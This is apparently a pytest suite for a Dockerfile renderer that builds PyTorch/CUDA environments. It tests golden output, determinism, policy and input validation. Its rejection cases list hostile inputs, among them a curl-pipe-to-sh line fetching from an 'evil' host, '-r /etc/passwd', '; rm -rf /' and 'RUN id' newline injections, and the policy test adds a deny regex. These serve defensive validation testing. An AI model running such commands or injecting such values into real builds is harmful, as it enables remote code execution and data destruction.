"""Rendering: golden files, determinism, policy, validation and a structure property."""

from __future__ import annotations

import dataclasses
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from envbuild.data import matrix as matrixmod
from envbuild.data.gpus import find_gpu
from envbuild.data.versions import DriverVersion, parse_requirement
from envbuild.errors import UsageError
from envbuild.fs import MARKER, write_file
from envbuild.render import docker as render
from envbuild.render import lock as lockmod
from envbuild.render.output import write_output
from envbuild.resolver.model import Request, Stack
from envbuild.resolver.resolve import resolve
from envbuild.smoke.bundle import payload

GOLDEN = Path(__file__).parent / "golden"
SHA = "0" * 64
PY_URL = "https://mirror.example/cpython-install_only.tar.gz"  # a test value, not a real build


@pytest.fixture(scope="module")
def matrix() -> matrixmod.Matrix:
    return matrixmod.load(matrixmod.default_directory({}))


def top(m: matrixmod.Matrix, **request: Any) -> Stack:
    stacks = resolve(Request(**request), m).stacks
    assert stacks, request
    return stacks[0]


def d(text: str) -> DriverVersion:
    return DriverVersion.parse(text)


# name -> (request, options): each a stack shape the renderer must handle.
CASES: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
    # the usual question: the best stack for driver 550 (minor-version compat, distro Python)
    "driver550-top": ({"driver": d("550")}, {}),
    # CPU wheel on plain Ubuntu: no NVIDIA_REQUIRE_CUDA, standalone Python
    "cpu": ({"variant": "cpu"}, {"python_url": PY_URL, "python_sha256": SHA}),
    # devel flavour: the toolkit image for building extensions
    "driver550-devel": ({"driver": d("550"), "flavor": "devel"}, {}),
    # a native stack with companions and an older torch
    "driver550-torch241": ({"driver": d("550"), "torch": parse_requirement("torch", "2.4.1")}, {}),
    # minor-version stack needing a standalone Python (22.04 ships 3.10), given by URL: the
    # override wins over the recorded build
    "driver550-py312": ({"driver": d("550"), "python": parse_requirement("python", "3.12"),
                         "ubuntu": "22.04"},
                        {"python_url": PY_URL, "python_sha256": SHA}),
    # the same need with no flag: the build python_standalone.yaml records, sha256 checked
    "py38-ubuntu2204-recorded": ({"python": parse_requirement("python", "3.8"), "ubuntu": "22.04"}, {}),
    # Kepler K80 on driver 470: cu118 on Ubuntu 20.04 with its python3 (3.8)
    "k80-cu118": ({"driver": d("470"), "gpus": ("K80",),
                   "python": parse_requirement("python", "3.8")}, {}),
    # air-gapped shape: torch alone from a wheelhouse, on a mirror base whose python3 is checked
    "wheelhouse-base-python": ({"torch": parse_requirement("torch", "==2.13.0"), "variant": "cpu",
                                "python": parse_requirement("python", "3.11")},
                               {"base_image": "registry.example/debian:bookworm",
                                "wheelhouse": "WHEELS", "companions": False}),
    # the package index's default wheel: index from configuration, here a mirror URL
    "default-variant": ({"driver": d("570"), "variant": "default"},
                        {"index_url": "https://mirror.example/simple"}),
    # a private mirror base by digest, a CA bundle for a TLS-inspecting proxy, extras
    "mirror-ca-extras": ({"driver": d("550")}, {
        "base_image": "registry.example:5000/nvidia/cuda@sha256:" + "ab" * 32,
        "ca_bundle": "CA", "apt_packages": ["git", "libgl1"],
        "pip_packages": ["numpy==1.26.4", "pillow"], "env": ["HF_HOME=/data/hf", "X=$(id)"],
        "user": "trainer"}),
    # apt-snapshot (issue 41): the distribution's archive at one time, NVIDIA's package pinned and held
    # (its version a stand-in: the render only carries it)
    "apt-snapshot": ({"driver": d("550")}, {
        "apt_packages": ["git", "cuda-nvcc-12-4=0.0-0envbuildtest"], "apt_snapshot": "20261101T000000Z"}),
}


def render_case(name: str, m: matrixmod.Matrix, tmp_path: Path) -> dict[str, bytes]:
    request, raw = CASES[name]
    request = dict(request)
    if "gpus" in request:
        request["gpus"] = tuple(find_gpu(m.rows("gpus"), g) for g in request["gpus"])
    raw = dict(raw)
    if raw.get("ca_bundle") == "CA":
        ca = tmp_path / "ca.pem"
        ca.write_text("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
        raw["ca_bundle"] = str(ca)
    if raw.get("wheelhouse") == "WHEELS":
        wheels = tmp_path / "wheels"
        wheels.mkdir(exist_ok=True)
        (wheels / "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(b"PK")
        raw["wheelhouse"] = str(wheels)
    snapshot = raw.pop("apt_snapshot", None)
    options = render.parse_options(**raw)
    stack = top(m, **request)
    lock = dataclasses.replace(render.lock_for(stack, m, options), apt_snapshot=snapshot)
    return render.render_docker(lock, options)


@pytest.mark.parametrize("name", sorted(CASES))
def test_golden(name: str, matrix: matrixmod.Matrix, tmp_path: Path,
                request: pytest.FixtureRequest) -> None:
    files = render_case(name, matrix, tmp_path)
    folder = GOLDEN / name
    wanted = ["Dockerfile", "envbuild.lock", ".dockerignore"]
    if request.config.getoption("--update-golden"):
        folder.mkdir(parents=True, exist_ok=True)
        for f in wanted:
            (folder / f).write_bytes(files[f])
    for f in wanted:
        assert files[f] == (folder / f).read_bytes(), f"{name}/{f} differs; review, then --update-golden"
    assert files["smoke.py"] == payload()


@pytest.mark.parametrize("name", sorted(CASES))
def test_render_twice_and_from_lock_same_bytes(name: str, matrix: matrixmod.Matrix,
                                               tmp_path: Path) -> None:
    first = render_case(name, matrix, tmp_path)
    assert render_case(name, matrix, tmp_path) == first
    lock = lockmod.from_json(first["envbuild.lock"].decode())
    ca = tmp_path / "ca.pem"
    # Only what is not in the lock is given again: the CA bundle and the wheelhouse.
    wheels = tuple(sorted((tmp_path / "wheels").glob("*.whl")))
    options = render.RenderOptions(ca_bundle=ca if "ca-bundle.crt" in first else None,
                                   wheelhouse=wheels)
    assert render.render_docker(lock, options) == first


def instructions(dockerfile: str) -> list[str]:
    """First word of each logical line (continuations joined), comments and blanks skipped."""
    logical = re.sub(r"\\\n", " ", dockerfile)
    return [line.split()[0] for line in logical.splitlines()
            if line.strip() and not line.lstrip().startswith("#")]


@pytest.mark.parametrize("name", sorted(CASES))
def test_policy(name: str, matrix: matrixmod.Matrix, tmp_path: Path) -> None:
    full = render_case(name, matrix, tmp_path)["Dockerfile"].decode()
    # Comments may name what is avoided; the instructions must not use it.
    text = "\n".join(line for line in full.splitlines() if not line.startswith("#"))
    assert not re.search(r"^# *syntax=", full, re.MULTILINE)
    for bad in (r"apt-key", r"trusted\.gpg\.d", r"curl[^\n]*\|\s*(ba)?sh", r"NVIDIA_DISABLE_REQUIRE",
                r"^ARG \S*TOKEN", r"--extra-index-url", r"--mount", r"<<", r"^# *syntax=",
                r"\blatest\b"):
        assert not re.search(bad, text, re.MULTILINE), (name, bad)
    ins = instructions(full)
    assert ins[0] == "FROM" and ins[-1] == "CMD" and "USER" in ins
    assert re.search(r'^CMD \[".*"\]$', text, re.MULTILINE)  # JSON form
    assert set(ins) <= {"FROM", "LABEL", "ENV", "SHELL", "ARG", "COPY", "RUN", "USER", "WORKDIR",
                        "CMD"}
    for pin in re.findall(r"(torch\w*)==(\S+)", text):
        assert re.fullmatch(r"[0-9.]+(\+\w+)?", pin[1]), pin


def test_require_cuda_follows_base(matrix: matrixmod.Matrix, tmp_path: Path) -> None:
    text = render_case("driver550-top", matrix, tmp_path)["Dockerfile"].decode()
    assert 'NVIDIA_REQUIRE_CUDA="cuda>=12.4"' in text  # 12.6 wheel on a 12.4 base, driver 550
    assert "NVIDIA_REQUIRE_CUDA" not in render_case("cpu", matrix, tmp_path)["Dockerfile"].decode()


# --- bad input: UsageError (exit 2), nothing written ---------------------------------

BAD_OPTIONS = [
    {"apt_packages": ["curl http://evil/x.sh|sh #"]},  # A8
    {"apt_packages": ["--allow-unauthenticated"]},
    {"pip_packages": ["torch==2.3.1 --index-url http://evil"]},  # A9
    {"pip_packages": ["--extra-index-url=https://pypi.example"]},  # A10
    {"pip_packages": ["-r /etc/passwd"]},  # A11
    {"pip_packages": ["torch==2.0.0"]},  # would override the resolved pin
    {"base_image": "nvidia/cuda:12.4.1-devel-ubuntu22.04\nRUN id"},  # A12
    {"base_image": "nvidia/cuda:latest"},  # A13
    {"base_image": "nvidia/cuda"},  # A13, untagged
    {"base_image": "nvidia/cuda@sha256:abc"},  # A14
    {"base_image": "My Image:TAG"},  # A15
    {"base_image": "../x:1"},
    {"base_image": "a" * 300 + ":1"},
    {"env": ["FOO"]},  # A16
    {"env": ["FO=O=1"[:2] + "\n=1"]},
    {"env": ["1FOO=x"]},
    {"env": ["FOO=a\nRUN id"]},
    {"env": ["FOO=a\u2028b"]},  # A17
    {"env": ["FOO=a\x85b"]},
    {"env": ["FOO=a\rb"]},
    {"user": "root"},
    {"user": "x;id"},
    {"index_url": "https://h/simple; rm -rf /"},
    {"index_url": "https://user:pw@h/simple"},
    {"python_url": PY_URL, "python_sha256": "abc"},
    {"ca_bundle": "/nonexistent/ca.pem"},
]


@pytest.mark.parametrize("bad", BAD_OPTIONS)
def test_bad_option_is_usage_error(bad: dict[str, Any]) -> None:
    with pytest.raises(UsageError) as info:
        render.parse_options(**bad)
    assert info.value.exit_code == 2
    assert "\n" not in info.value.one_line()


def test_standalone_python_required(matrix: matrixmod.Matrix) -> None:
    # Ubuntu 22.04 ships 3.10: 3.12 there needs a standalone build (or a --base-image): the
    # recorded one with no flag; without a recorded build, a one-line error (L4).
    stack = top(matrix, variant="cpu", ubuntu="22.04", python=parse_requirement("python", "3.12"))
    assert stack.ubuntu == "22.04"
    lock = render.lock_for(stack, matrix, render.RenderOptions())
    row = next(r for r in matrix.rows("python_standalone") if r["python"] == "3.12" and r["arch"] == "x86_64")
    assert lock.python_provision == "standalone"
    assert lock.python_standalone == lockmod.Standalone(url=row["url"], sha256=row["sha256"])
    bare = matrixmod.Matrix(directory=matrix.directory, digest=matrix.digest,
                            relations={**matrix.relations, "python_standalone": ()})
    with pytest.raises(UsageError, match="no standalone build of it is recorded") as info:
        render.lock_for(stack, bare, render.RenderOptions())
    assert info.value.exit_code == 2 and "\n" not in info.value.one_line()


def test_existing_output_untouched_without_force(matrix: matrixmod.Matrix, tmp_path: Path) -> None:
    files = render_case("driver550-top", matrix, tmp_path)
    out = tmp_path / "out"
    write_output({"old": b"1"}, out, force=False)  # --force replaces only what envbuild wrote
    (out / "keep").write_bytes(b"mine")
    with pytest.raises(UsageError, match="not empty"):  # A18
        write_output(files, out, force=False)
    assert sorted(p.name for p in out.iterdir()) == [MARKER, "keep", "old"]
    assert (out / "keep").read_bytes() == b"mine"
    write_output(files, out, force=True)
    assert sorted(p.name for p in out.iterdir()) == sorted([*files, MARKER])
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []


def test_write_output_new_dir(matrix: matrixmod.Matrix, tmp_path: Path) -> None:
    files = render_case("driver550-top", matrix, tmp_path)
    write_output(files, tmp_path / "a" / "b", force=False)
    assert (tmp_path / "a" / "b" / "Dockerfile").read_bytes() == files["Dockerfile"]


def test_failed_write_leaves_nothing(tmp_path: Path) -> None:
    with pytest.raises(OSError):  # "x" is a file, so "x/y" cannot be written
        write_output({"x": b"1", "x/y": b"2"}, tmp_path / "out", force=False)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("mutate", [
    lambda d: d.update(schema=2),
    lambda d: d["stack"].update(torch="2.4.1\nRUN id"),
    lambda d: d.update(base_image="evil\nRUN id:1"),
    lambda d: d.update(env=[["A", "b\nRUN id"]]),
    lambda d: d.update(packages={"torch": "9.9.9"}),
    lambda d: d.update(user="root"),
    lambda d: d["stack"].pop("torch"),
    lambda d: d.update(apt_packages="git"),
    # The stack's own base image and index: the Dockerfile names the base a --base-image
    # stands in for, so a line break there was a new instruction (docs/faults.md A27).
    lambda d: d["stack"].update(base_image="x\nRUN id"),
    lambda d: d["stack"].update(base_image="x:1\u2028RUN id"),
    lambda d: d["stack"].update(index_url="https://x.example/$(id)"),
    lambda d: d["stack"].update(notes=["a\nRUN id"]),
    # Wrong types are usage errors (exit 2), not a TypeError inside a validator.
    lambda d: d["stack"].update(torchvision=5),
    lambda d: d["stack"].update(cuda=12.4),
    lambda d: d["stack"].update(base_image=None),
    lambda d: d.update(packages={"torch": 2}),
    lambda d: d.update(packages=[["torch", "2.4.1"]]),
    lambda d: d.update(companions="no"),
    lambda d: d.update(python_standalone={"url": "https://x.example/p.tgz", "sha256": 1}),
    lambda d: d.update(env=[["A", 1]]),
    lambda d: d.update(user=None),
    lambda d: d.update(layers={"name": "torch"}),
    lambda d: d.update(extra="x"),
    # A key holding '=' split as --env would split it: a second ENV pair.
    lambda d: d.update(env=[["A=x y", "1"]]),
    lambda d: d.update(schema=True),
])
def test_bad_lock_is_usage_error(mutate: Any, matrix: matrixmod.Matrix) -> None:
    import json

    good = render.lock_for(top(matrix, driver=d("550")), matrix, render.RenderOptions())
    data = json.loads(good.to_json())
    mutate(data)
    with pytest.raises(UsageError):
        lockmod.from_json(json.dumps(data))


def test_lock_round_trip_and_write_atomic(matrix: matrixmod.Matrix, tmp_path: Path) -> None:
    good = render.lock_for(top(matrix, driver=d("550")), matrix, render.RenderOptions())
    path = tmp_path / "envbuild.lock"
    write_file(path, good.to_json().encode())
    assert lockmod.read_lock(path) == good
    assert list(tmp_path.iterdir()) == [path]
    with pytest.raises(UsageError):
        lockmod.from_json("{not json")


# --- property: a user value either fails validation or cannot change the structure ------

_BASE_STACK: dict[str, Stack] = {}


def _structure(m: matrixmod.Matrix, **raw: Any) -> list[str]:
    if "stack" not in _BASE_STACK:
        _BASE_STACK["stack"] = top(m, driver=d("550"))
    options = render.parse_options(**raw)
    files = render.render_docker(render.lock_for(_BASE_STACK["stack"], m, options), options)
    return instructions(files["Dockerfile"].decode())


TEXT = st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from(
    list("\n\r\\\"'$`;|&<>#= -\u2028\x85\t")), max_size=30)


_BASELINES: dict[tuple[int, str], list[str]] = {}


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(value=TEXT, field=st.sampled_from(["env", "apt", "pip", "base", "user"]))
def test_user_values_keep_instruction_list(matrix: matrixmod.Matrix, value: str, field: str) -> None:
    build = {
        "env": lambda v: {"env": [f"KEY={v}"]},
        "apt": lambda v: {"apt_packages": [v]},
        "pip": lambda v: {"pip_packages": [v]},
        "base": lambda v: {"base_image": v},
        "user": lambda v: {"user": v},
    }[field]
    key = (id(matrix), field)  # the baseline is the same for all 300 examples: rendered once
    if key not in _BASELINES:
        _BASELINES[key] = _structure(matrix, **build({"env": "x", "apt": "git", "pip": "numpy",
                                                      "base": "nvidia/cuda:12.4.1-base-ubuntu22.04",
                                                      "user": "envbuild"}[field]))
    baseline = _BASELINES[key]
    try:
        got = _structure(matrix, **build(value))
    except UsageError:
        return
    assert got == baseline


def test_stack_replace_keeps_structure(matrix: matrixmod.Matrix) -> None:
    stack = top(matrix, driver=d("550"))
    lock = render.lock_for(stack, matrix, render.RenderOptions())
    again = render.lock_for(stack.replace(), matrix, render.RenderOptions())
    assert lock == again


def test_a_template_variable_the_context_lacks_is_an_internal_error_and_writes_nothing(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """docs/faults.md A20: StrictUndefined turns a developer's missing variable into exit 1
    (error[internal]), never an empty string in a Dockerfile, and the output directory is not made."""
    from envbuild.commands.cli import main
    from envbuild.render import docker as dockermod

    real = dockermod.context

    def lacking(*args: Any, **kwargs: Any) -> dict[str, Any]:
        values = dict(real(*args, **kwargs))
        del values["python"]
        return values

    monkeypatch.setattr(dockermod, "context", lacking)
    out = tmp_path / "ctx"
    code = main(["render", "docker", "--variant", "cpu", "--torch", "==2.13.0", "--python", "3.11",
                 "-o", str(out)])
    err = capsys.readouterr().err
    assert code == 1, err
    assert "error[internal]" in err and "UndefinedError" in err and "'python' is undefined" in err
    assert not out.exists()


def test_labels_name_a_base_images_os_only_as_far_as_it_is_known(matrix: matrixmod.Matrix) -> None:
    """The stack's own base is its Ubuntu (pinned by digest or not); a --base-image is named as
    itself at render time (its OS is not known before a build reads it), never as an Ubuntu."""
    stack = top(matrix, driver=d("550"), variant="cpu")
    own = lockmod.make_lock(stack, matrix)
    pinned = lockmod.make_lock(stack, matrix, base_image=f"{stack.base_image}@sha256:{'c' * 64}")
    debian = lockmod.make_lock(stack, matrix, base_image=f"debian:bookworm@sha256:{'c' * 64}")
    for lock in (own, pinned):
        found = dict(render.labels(lock))  # the values quoted for the LABEL instruction
        assert found["org.opencontainers.image.description"].endswith(f', Ubuntu {stack.ubuntu}"')
        assert found["dev.envbuild.ubuntu"] == f'"{stack.ubuntu}"'
    found = dict(render.labels(debian))
    assert found["org.opencontainers.image.description"].endswith(', base image debian:bookworm"')
    assert "dev.envbuild.ubuntu" not in found and "Ubuntu" not in " ".join(found.values())
    assert render.base_os(debian, "Debian GNU/Linux 12 (bookworm)") == "Debian GNU/Linux 12 (bookworm)"
    assert render.base_os(own, "Debian GNU/Linux 12 (bookworm)") == f"Ubuntu {stack.ubuntu}"
    dockerfile = render.render_docker(debian, render.RenderOptions(base_image=debian.base_image))
    first = bytes(dockerfile["Dockerfile"]).decode().split("\n")[0]  # type: ignore[arg-type]
    assert first.endswith("Python 3.14, base image debian:bookworm).") and "Ubuntu" not in first
